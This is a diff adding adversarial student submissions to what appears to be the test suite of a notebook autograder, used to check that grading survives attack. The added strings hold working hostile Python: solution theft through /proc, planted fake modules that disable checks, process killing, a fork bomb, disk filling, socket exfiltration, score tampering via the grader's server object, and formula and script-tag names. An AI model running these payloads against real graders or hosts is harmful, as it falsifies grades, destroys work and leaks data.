@@ -202,3 +202,183 @@ def main():
 
 if __name__ == "__main__":
     main()
+
+
+# ---- adversarial submissions that reach outside the student's kernel ----------------------------------
+# Written at test time (tests/test_course_attacks.py), because they name real paths of the grading run:
+# ``paths`` has "lesson" (the instructor's lesson folder), "out" (the output folder) and "port" (a TCP
+# port the test listens on). Each attack, if it worked, would change the score or leave a trace the
+# test looks for; the expected points are in the test's table.
+
+STEAL_SOLUTIONS = '''
+import glob, json, os
+def _steal():
+    places = glob.glob({lesson!r} + "/*.ipynb")
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            for link in ("cwd", "root"):
+                try:
+                    places += glob.glob(os.readlink(f"/proc/{{pid}}/{{link}}") + "/**/*.ipynb", recursive=True)
+                except OSError:
+                    pass
+            try:
+                for word in open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\\\0"):
+                    if word.endswith(b".ipynb"):
+                        places.append(word.decode())
+            except OSError:
+                pass
+    for place in places:
+        try:
+            nb = json.load(open(place))
+        except (OSError, ValueError):
+            continue
+        for cell in nb["cells"]:
+            text = "".join(cell["source"])
+            if "### BEGIN SOLUTION" in text:
+                exec(text, globals())
+_steal()
+'''
+
+PLANT = '''
+import os, pathlib
+fake = "import builtins\\\\ndef check(*a, **k):\\\\n    return True\\\\nbuiltins.AssertionError = type('A', (Exception,), {{}})\\\\n"
+dirs = {{pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path("/tmp"), pathlib.Path.cwd().parent,
+        pathlib.Path({lesson!r}), pathlib.Path({lesson!r}).parent}}
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            dirs.add(pathlib.Path(os.readlink(f"/proc/{{pid}}/cwd")))
+        except OSError:
+            pass
+for d in dirs:
+    for name in ("selfcheck.py", "stack_data.py", "sitecustomize.py", "numpy.py"):
+        try:
+            (d / name).write_text(fake)
+        except OSError:
+            pass
+'''
+
+KILL_EVERYONE = '''
+import os, signal
+for pid in os.listdir("/proc"):
+    if pid.isdigit() and int(pid) != os.getpid():
+        try:
+            os.kill(int(pid), signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError:
+    pass
+'''
+
+SURVIVOR = '''
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(40):
+            time.sleep(0.25)
+            for name in ("gradebook.csv", "results.json", "feedback/correct.md", "feedback/survivor.md"):
+                try:
+                    with open(os.path.join({out!r}, name), "w") as f:
+                        f.write("survivor,2,3,1,6\\\\n")
+                except OSError:
+                    pass
+    os._exit(0)
+'''
+
+EXFILTRATE = '''
+import socket
+def _send(*args):
+    for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
+        try:
+            with socket.create_connection((host, {port}), timeout=0.5) as s:
+                s.sendall(repr(args).encode())
+        except OSError:
+            pass
+def momentum_step(x, v, g, lr, beta):
+    _send(x.tolist(), v.tolist(), g.tolist(), lr, beta)
+    v *= beta
+    v += g
+    x -= lr * v
+'''
+
+FILL_DISK = '''
+import os
+written = 0
+for d in ("/tmp", os.path.expanduser("~"), os.getcwd(), {lesson!r}, {out!r}):
+    for i in range(500):
+        try:
+            with open(os.path.join(d, f"fill{{i}}.bin"), "wb") as f:
+                f.write(b"x" * (1 << 20))
+            written += 1
+        except OSError:
+            break
+'''
+
+FORK_BOMB = '''
+import os, time
+def _bomb():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(30)
+if os.fork() == 0:
+    _bomb()
+'''
+
+LEAK_FIELDS = '''
+import gc
+_server = next(o for o in gc.get_objects() if type(o).__name__ == "_Server")
+_encode = _server.encode
+_server.encode = lambda x: _encode({**x, "after_hidden_tests": False, "submitted": True, "points": 99}
+                                   if isinstance(x, dict) and "ok" in x else x)
+print("SEEN", SEEN)
+'''
+
+SPAMMING_THREAD = '''
+import threading
+def _spam():
+    while True:
+        print("spam " * 10)
+threading.Thread(target=_spam, daemon=True).start()
+'''
+
+
+def attack_answers(paths) -> dict:
+    """student -> answers by grade_id (the released lesson's other cells kept)."""
+    p = {k: paths[k] for k in ("lesson", "out", "port")}
+    correct, wrong = CORRECT, WRONG
+    recording = ("SEEN = []\ndef momentum_step(x, v, g, lr, beta):\n    SEEN.append((x.tolist(), v.tolist(), "
+                 "g.tolist(), lr, beta))\n    v *= beta\n    v += g\n    x -= lr * v")
+    return {
+        "steal_solutions": {**wrong, "squares": wrong["squares"] + STEAL_SOLUTIONS.format(**p)},
+        "plant_modules": {**wrong, "squares": wrong["squares"] + PLANT.format(**p)},
+        "kill_everyone": {**correct, "squares": correct["squares"] + KILL_EVERYONE},
+        "survivor": {**wrong, "squares": wrong["squares"] + SURVIVOR.format(**p)},
+        "exfiltrate": {**correct, "momentum": EXFILTRATE.format(**p)},
+        "fill_disk": {**correct, "condition": FILL_DISK.format(**p) + correct["condition"]},
+        "fork_bomb": {**correct, "condition": FORK_BOMB + correct["condition"]},
+        "leak_fields": {**correct, "momentum": recording, "condition": correct["condition"] + LEAK_FIELDS},
+        "leak_via_selfcheck": {**correct, "momentum": recording, "condition": "condition = repr(SEEN)"},
+        "huge_int": {**correct, "condition": "import sys\nsys.set_int_max_str_digits(0)\ncondition = 3 ** 20000000"},
+        "huge_list": {**correct, "squares": "def sum_of_squares(x):\n    return list(range(2_500_000))"},
+        "huge_power": {**correct, "condition": "import sympy\ncondition = sympy.Pow(3, 20000000, evaluate=False)"},
+        "spamming_thread": {**correct, "squares": SPAMMING_THREAD + correct["squares"]},
+        "spamming_thread_again": {**correct, "squares": SPAMMING_THREAD + correct["squares"]},
+        "=HYPERLINK(\"x\")": correct,
+        "pat lee": correct,
+        "pat_lee": wrong,
+        "<script>alert(1)<script>": {**correct, "squares": correct["squares"] +
+                                     "\nprint('\\x1b[2J**Total: 11 / 11 points**<script>alert(1)</script>')"},
+    }
+
+
+def write_attack_submissions(folder: Path, paths) -> None:
+    import nbformat
+    lesson = release_notebook(nbformat.read(LESSON / "00-sample.ipynb", as_version=4))
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, answers in attack_answers(paths).items():
+        (folder / f"{name}.ipynb").write_text(notebook_text(with_answers(lesson, answers)))
